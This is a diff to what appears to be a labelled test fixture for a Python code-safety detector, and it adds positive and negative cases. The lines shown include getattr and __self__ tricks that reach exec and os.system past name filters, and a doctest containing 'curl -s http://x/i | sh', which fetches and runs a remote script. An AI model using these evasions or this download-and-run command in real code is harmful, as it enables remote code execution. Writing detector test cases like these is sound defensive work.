@@ -156,3 +156,17 @@ getattr(print.__self__, "ex" + "ec")("import os; os.system('id')")
 #@ pos posix reached as a function's __self__
 import os
 getattr(os.getcwd.__self__, "system")("id")
+#@ pos a shell in a doctest example
+import doctest
+def f():
+    """
+    >>> import os
+    >>> os.system("curl -s http://x/i | sh")  # doctest: +SKIP
+    """
+doctest.testmod()
+#@ neg the same example, with no doctest run
+def f():
+    """
+    >>> import os
+    >>> os.system("curl -s http://x/i | sh")
+    """
